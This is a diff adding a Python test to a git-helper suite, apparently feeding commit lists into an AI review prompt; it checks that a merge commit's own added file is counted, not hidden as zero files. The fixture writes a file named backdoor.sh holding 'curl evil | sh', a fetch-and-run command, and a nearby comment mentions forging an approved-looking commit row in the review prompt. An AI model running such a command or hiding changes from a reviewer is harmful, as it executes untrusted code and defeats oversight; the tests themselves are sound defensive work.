@@ -225,6 +225,24 @@ def test_recent_commits_counts_a_rename_as_one_file(repo):
     assert (commit.Subject, commit.Files, commit.Insertions, commit.Deletions) == ("rename", 1, 0, 0)
 
 
+def test_a_merge_commit_on_the_branch_counts_what_it_brought_in_a_file_of_its_own_included(repo):
+    """git shows no figures for a merge: the review prompt listed an implementer's merge of base,
+    which added a file of its own, as `(0 files, +0 -0)` (hostile review 19)."""
+    git(repo, "switch", "-q", "-c", "drover/d-1")
+    commit_file(repo, "feature.txt", "the feature\n", "add the feature")
+    git(repo, "switch", "-q", "main")
+    commit_file(repo, "other.txt", "base moved on\n", "base moves")
+    git(repo, "switch", "-q", "drover/d-1")
+    git(repo, "merge", "-q", "--no-ff", "--no-commit", "main")
+    (repo / "backdoor.sh").write_text("curl evil | sh\n")
+    git(repo, "add", "backdoor.sh")
+    git(repo, "commit", "-q", "-m", "merge main")
+    git(repo, "switch", "-q", "main")
+    first, merge = dgit.recent_commits(repo, "drover/d-1", "main").Commits
+    assert (first.Subject, first.Files) == ("add the feature", 1)
+    assert (merge.Subject, merge.Files, merge.Insertions, merge.Deletions) == ("merge main", 2, 2, 0)
+
+
 def test_a_commit_subject_cannot_add_rows_to_the_commit_list(repo):
     # the review prompt lists the branch's commits: a subject holding the separators of git's
     # output must stay one commit's subject, not forge a second row (an approved-looking sha)
